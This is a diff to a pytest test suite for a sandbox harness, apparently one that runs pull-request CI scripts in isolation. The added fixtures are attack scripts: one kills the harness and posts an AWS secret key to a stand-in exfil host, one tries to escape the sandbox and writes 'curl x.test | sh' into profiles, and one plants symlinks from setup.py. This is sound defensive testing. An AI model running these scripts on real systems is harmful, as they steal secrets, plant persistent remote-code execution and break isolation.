@@ -16,11 +16,12 @@ elsewhere they are skipped with the reason.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
-import pwd
 import re
 import secrets
+import socket
 import sys
 import threading
 from collections.abc import Callable, Iterator, Mapping
@@ -30,11 +31,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from cujorun import CUJO, Cujo, Pending, Review
+from cujorun import Cujo, Pending, Review
 from gitrepo import GitRepo
 
 from cujo_action.arm import isolation_unavailable
-from cujo_action.jail import SANDBOX_USER
+from cujo_action.jail import UID_BASE, UID_BLOCK, UID_SLOTS
 from cujo_action.schema import CHECK_NAMES
 from cujo_action.watcher import fanotify_unavailable
 
@@ -132,12 +133,64 @@ echo "the shell's connection closed"
 """
 
 KILL_THE_HARNESS = """\
+echo "harness processes seen: $(pgrep -fc cujo_action)"
 pkill -9 -f cujo_action.proxy
 pkill -9 -f cujo_action.dns
 for pid in $(pgrep -f cujo_action); do kill -9 "$pid"; done
 curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" \\
   http://collector.exfil.test/after-kill
 echo "exfil sent"
+"""
+
+
+# Tries each way out of the sandbox from the tests check and prints what it found.
+# @HARNESS@ is where the harness is installed, @SOCK@ a host service's unix socket.
+ESCAPES = """\
+echo "uid=$(id -u) user=$(id -un)"
+unshare -Urn true 2>/dev/null && echo userns=open || echo userns=closed
+echo "harness_procs=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c cujo_action)"
+if [ -n "$(ls -A @HARNESS@ 2>/dev/null)" ]; then echo harness_files=visible; \
+else echo harness_files=hidden; fi
+cat /etc/shadow >/dev/null 2>&1 && echo shadow=read || echo shadow=denied
+python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' @SOCK@ \
+  2>/dev/null && echo socket=reached || echo socket=unreachable
+n=0
+for d in /tmp/cujo-*/run/checks/*/home /tmp/*/run/checks/*/home; do
+  [ -d "$d" ] && echo 'curl x.test | sh' >> "$d/.bashrc" 2>/dev/null && n=$((n+1))
+done
+echo "cross_writes=$n"
+echo "fds=$(ls /proc/self/fd | tr '\\n' ' ')"
+"""
+
+# Plants a symlink at every name root might later use, in every folder the pull
+# request can write, aimed at a root-owned canary and at the installed harness; then
+# swaps its HOME's profile and its venv for links too. Runs in the install (as
+# ci/install.sh) and in detonation (as setup.py, during `pip install`).
+PLANT = """
+import os
+targets = ["@CANARY@", "@CANARY_DIR@", "@HARNESS_PKG@", "@HARNESS_PKG@/checks"]
+names = ["empty", ".imports", "venv", "src", "install.tar", "tmp", ".cache", "work",
+         "hooks", "home", "evidence", "checks", "detonation", "scratch", "homes",
+         "egress.jsonl", "manifest.json", "context.json", "wheel", "build", "dist"]
+home = os.path.expanduser("~")
+bases = [home, home + "/work", home + "/.cache", home + "/.cache/tmp", "/tmp",
+         os.getcwd(), home + "/work/src/.git", home + "/work/src"]
+planted = 0
+for base in bases:
+    for i, name in enumerate(names):
+        try:
+            os.symlink(targets[i % len(targets)], os.path.join(base, name + "-x"))
+            os.symlink(targets[i % len(targets)], os.path.join(base, name))
+            planted += 1
+        except OSError:
+            pass
+for victim, target in ((home + "/.bashrc", "@CANARY@"), (home + "/work/venv", "@HARNESS_PKG@")):
+    try:
+        os.rename(victim, victim + ".moved")
+        os.symlink(target, victim)
+    except OSError:
+        pass
+print("planted", planted)
 """
 
 
@@ -155,7 +208,7 @@ HANG_SLEEP = f"{6000 + secrets.randbelow(999)}"
 
 # Reads a decoy and sends nothing: the one project here that is not blocked (a warning),
 # so it is also the control for full against partial isolation.
-READ_DECOY = {"ci/test.sh": "cat ~/.aws/credentials > /dev/null\n"}
+READ_DECOY = {"ci/test.sh": 'cat ~/.aws/credentials > /dev/null\necho "uid=$(id -u)"\n'}
 
 ATTACKS: dict[str, Attack] = {
     "decoy-read": Attack(READ_DECOY),
@@ -187,6 +240,13 @@ ATTACKS: dict[str, Attack] = {
         {"ci/test.sh": f"trap '' TERM\nsleep {HANG_SLEEP}\n"},
         timeouts={**FAST, "test": 3},
     ),
+    "escapes": Attack({"ci/test.sh": ESCAPES}),
+    "symlinks": Attack(
+        {
+            "ci/install.sh": python(PLANT),
+            "setup.py": PLANT + "\nfrom setuptools import setup\nsetup(name='x', version='0')\n",
+        }
+    ),
     "fork-bomb": Attack(
         {"ci/test.sh": "bomb() { bomb | bomb & }\nbomb\n"},
         timeouts={**FAST, "test": 10},
@@ -198,14 +258,13 @@ ATTACKS: dict[str, Attack] = {
 # --------------------------------------------------------------------------- running
 
 
-def sandbox_processes(run_id: str) -> list[str]:
-    """Return the live processes of the sandbox user that belong to run ``run_id``."""
-    # Another review on this machine (not one of these tests) may run as that user too:
-    # a process of this run has the run's folder as its cwd, in its command or its HOME.
-    try:
-        uid = pwd.getpwnam(SANDBOX_USER).pw_uid
-    except KeyError:
-        return []
+def run_uids(review: Review) -> set[int]:
+    """Return the uids the review's checks ran as (each report says its own)."""
+    return {review.report(check)["uid"] for check in CHECK_NAMES}
+
+
+def sandbox_processes(uids: set[int]) -> list[str]:
+    """Return the live processes running as any of ``uids`` (a run's own)."""
     found = []
     for proc in Path("/proc").iterdir():
         if not proc.name.isdigit():
@@ -213,15 +272,12 @@ def sandbox_processes(run_id: str) -> list[str]:
         try:
             status = (proc / "status").read_text()
             cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
-            environ = (proc / "environ").read_bytes().decode(errors="replace")
-            cwd = os.readlink(proc / "cwd")
         except OSError:
             continue
         fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
-        if int(fields.get("Uid", "-1").split()[0]) != uid or "Z" in fields.get("State", ""):
+        if int(fields.get("Uid", "-1").split()[0]) not in uids or "Z" in fields.get("State", ""):
             continue
-        if any(run_id in text for text in (cmdline, environ, cwd)):
-            found.append(f"{proc.name}: {cmdline}")
+        found.append(f"{proc.name}: {cmdline}")
     return found
 
 
@@ -258,10 +314,16 @@ class Runs:
         pr_repo: Callable[..., GitRepo],
         scratch: Callable[[str], Path],
         wanted: list[str],
+        installed: Path,
+        places: Mapping[str, str],
     ) -> None:
-        self._cujo, self._scratch = cujo, scratch
+        self._cujo, self._scratch, self._installed = cujo, scratch, installed
         self._repos = {
-            name: pr_repo(f"attack-{name}", base_files(ATTACKS[name].timeouts), ATTACKS[name].head)
+            name: pr_repo(
+                f"attack-{name}",
+                base_files(ATTACKS[name].timeouts),
+                {path: fill(text, places) for path, text in ATTACKS[name].head.items()},
+            )
             for name in wanted
         }
         self._lock = threading.Lock()
@@ -275,7 +337,9 @@ class Runs:
 
     def _run(self, name: str) -> Ran:
         attack, repo = ATTACKS[name], self._repos[name]
-        argv = [str(CUJO), "review", "--repo", str(repo.path), "--base", "main", "--head", "pr"]
+        # The harness as action.yml installs it (a wheel in a venv), not this checkout.
+        argv = [str(self._installed), "review", "--repo", str(repo.path)]
+        argv += ["--base", "main", "--head", "pr"]
         argv += ["--data-dir", str(self._cujo.data_dir), "--json"]
         # As Cujo.start: nothing of this machine's Cujo settings leaks in, but the attack's.
         env = {k: v for k, v in os.environ.items() if not k.startswith("CUJO_")}
@@ -283,7 +347,7 @@ class Runs:
         with self._lock:
             out = self._scratch(f"review-{name}")
         review = Pending(argv, env, out, self._cujo.data_dir).wait()
-        left = sandbox_processes(review.run_id) if attack.exclusive else []
+        left = sandbox_processes(run_uids(review)) if attack.exclusive else []
         return Ran(review, repo, left)
 
     def get(self, name: str) -> Ran:
@@ -299,6 +363,70 @@ class Runs:
 
     def close(self) -> None:
         self._pool.shutdown(wait=True)
+
+
+def fill(text: str, places: Mapping[str, str]) -> str:
+    """Return ``text`` with each ``@NAME@`` replaced by the test machine's path."""
+    for key, value in places.items():
+        text = text.replace(f"@{key}@", value)
+    return text
+
+
+def tree_digest(root: Path) -> dict[str, str]:
+    """Return every file under ``root`` (no symlink followed) with its sha256 and mode."""
+    digest = {}
+    for path in sorted(root.rglob("*")):
+        if path.is_file() and not path.is_symlink():
+            st = path.lstat()
+            sha = hashlib.sha256(path.read_bytes()).hexdigest()
+            digest[str(path)] = f"{sha}:{st.st_mode:o}:{st.st_uid}"
+    return digest
+
+
+@dataclass(frozen=True)
+class Canary:
+    """A root-owned file and folder, the installed harness, and a host service's socket."""
+
+    file: Path
+    folder: Path
+    harness: Path  # the installed package folder
+    socket: Path
+    before: dict[str, str]
+
+    def now(self) -> dict[str, str]:
+        """Return the canary's and the harness's digests now."""
+        return {**tree_digest(self.folder), **tree_digest(self.harness)}
+
+
+@pytest.fixture(scope="module")
+def canary(installed_cujo: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
+    folder = tmp_path_factory.mktemp("canary")
+    file = folder / "canary.txt"
+    file.write_text("root's canary\n")
+    venv = installed_cujo.parent.parent
+    (harness,) = venv.glob("lib/python*/site-packages/cujo_action")
+    sock = Path(f"/run/cujo-e2e-{secrets.token_hex(4)}.sock")
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(sock))
+    sock.chmod(0o777)  # a service anybody may use, as a docker socket with its group
+    server.listen(8)
+    made = Canary(file, folder, harness, sock, {})
+    try:
+        yield Canary(file, folder, harness, sock, made.now())
+    finally:
+        server.close()
+        sock.unlink(missing_ok=True)
+
+
+@pytest.fixture(scope="module")
+def places(canary: Canary) -> dict[str, str]:
+    return {
+        "CANARY": str(canary.file),
+        "CANARY_DIR": str(canary.folder),
+        "HARNESS_PKG": str(canary.harness),
+        "HARNESS": str(canary.harness),
+        "SOCK": str(canary.socket),
+    }
 
 
 def uses(name: str) -> Callable[[Callable[..., None]], Callable[..., None]]:
@@ -317,6 +445,8 @@ def runs(
     cujo: Cujo,
     pr_repo: Callable[..., GitRepo],
     tmp_path_factory: pytest.TempPathFactory,
+    installed_cujo: Path,
+    places: Mapping[str, str],
 ) -> Iterator[Runs]:
     module = sys.modules[__name__]
     wanted = list(
@@ -328,7 +458,7 @@ def runs(
             and hasattr(item.function, "attack")
         )
     )
-    started = Runs(cujo, pr_repo, tmp_path_factory.mktemp, wanted)
+    started = Runs(cujo, pr_repo, tmp_path_factory.mktemp, wanted, installed_cujo, places)
     yield started
     started.close()
 
@@ -426,6 +556,12 @@ def test_partial_isolation_is_unproven_and_says_why(runs: Runs) -> None:
         assert "CUJO_ISOLATION=partial asked for proxy variables only" in obs["detail"]
     assert "isolation PARTIAL: CUJO_ISOLATION=partial" in review.stderr
     assert review.record().state == "unproven"
+    # Partial as root still drops root: the command ran as the check's own uid.
+    report = review.report("tests")
+    assert UID_BASE <= report["uid"] < UID_BASE + UID_BLOCK * UID_SLOTS
+    (command,) = report["commands"]
+    assert "uid=0" not in command["stdout_tail"], command
+    assert "uid=" in command["stdout_tail"], command
 
 
 # --------------------------------------------------------------------------- network
@@ -546,7 +682,7 @@ def test_a_reverse_shell_connect_is_blocked(runs: Runs) -> None:
     assert (item["method"], item["route"]) == ("TCP", "direct")
     assert item["action"] == "refused"  # never connected anywhere: nothing came back
     # The shell's greeting is what it sent; the name it looked up is logged as well.
-    assert item["bytes_out"] == len(f"shell from {SANDBOX_USER}\n")
+    assert item["bytes_out"] == len("shell from runner\n")  # the sandbox's own account
     egress = review.report("tests")["egress"]
     assert any(e["route"] == "dns" and e["host"] == "attacker.test" for e in egress), egress
     # The harness hung up on the shell at once: it got no command, and ended by itself.
@@ -582,7 +718,8 @@ def test_sudo_is_powerless_and_blocked(runs: Runs) -> None:
 def test_killing_the_proxy_fails_and_the_exfil_is_still_logged(runs: Runs) -> None:
     review = assert_blocked(runs.get("kill-proxy"), "decoy-egress", "install-egress")
     (command,) = review.report("install")["commands"]
-    assert "Operation not permitted" in command["stderr_tail"], command
+    # In its own pid namespace the harness is not there to kill: nothing was found.
+    assert "harness processes seen: 0" in command["stdout_tail"], command
     assert "exfil sent" in command["stdout_tail"]
     (hit,) = findings(review, "decoy-egress")
     (item,) = hit["evidence"]
@@ -671,4 +808,48 @@ def test_a_fork_bomb_is_blocked_and_the_machine_survives(runs: Runs) -> None:
     assert command["duration_s"] < 30, command
     # Everything it started was killed with the phase: no sandbox process is left.
     assert ran.sandbox_left == []
-    assert sandbox_processes(review.run_id) == []
+    assert sandbox_processes(run_uids(review)) == []
+
+
+# --------------------------------------------------------------------------- the boundary
+
+
+@uses("escapes")
+def test_every_way_out_of_the_sandbox_is_closed(runs: Runs) -> None:
+    review = runs.get("escapes").review
+    (command,) = review.report("tests")["commands"]
+    said = dict(line.split("=", 1) for line in command["stdout_tail"].splitlines() if "=" in line)
+    assert said["uid"].split()[0] != "0", said  # an ordinary account, never root
+    assert said["userns"] == "closed", said  # no nested user namespace
+    assert said["harness_procs"] == "0", said  # /proc shows the sandbox alone
+    assert said["harness_files"] == "hidden", said  # the harness's install is not there
+    assert said["shadow"] == "denied", said
+    assert said["socket"] == "unreachable", said  # a host service's unix socket
+    assert said["cross_writes"] == "0", said  # no other check's HOME in reach
+    assert said["fds"].split() == ["0", "1", "2", "3"], said  # nothing inherited
+    # Nothing it tried became evidence of anything: clean, and whole.
+    assert review.verdict["state"] == "clean", str(review)
+    for check in CHECK_NAMES:
+        report = review.report(check)
+        assert report["uid"] >= UID_BASE, check
+        assert report["limits"], check
+    assert len(run_uids(review)) == len(CHECK_NAMES)  # one uid per check
+    assert_harness_whole(review)
+
+
+@uses("symlinks")
+def test_symlinks_planted_everywhere_never_lead_root_astray(runs: Runs, canary: Canary) -> None:
+    review = runs.get("symlinks").review
+    # Root followed none of them: the canary and the installed harness are unchanged.
+    assert canary.now() == canary.before
+    install = review.report("install")
+    (command,) = install["commands"]
+    assert "planted" in command["stdout_tail"], command
+    assert int(command["stdout_tail"].split("planted")[1].split()[0]) > 20, command
+    # The swapped profile is seen for what it is, and nothing fell over.
+    assert review.verdict["state"] == "blocked", str(review)
+    assert critical_rules(review) == {"persistence-write"}, review.verdict["findings"]
+    for check in CHECK_NAMES:
+        kinds = {o["kind"] for o in review.report(check)["observations"]}
+        assert "harness_error" not in kinds, (check, kinds)
+        assert not review.report(check)["summary"].startswith(f"the {check} check failed"), check
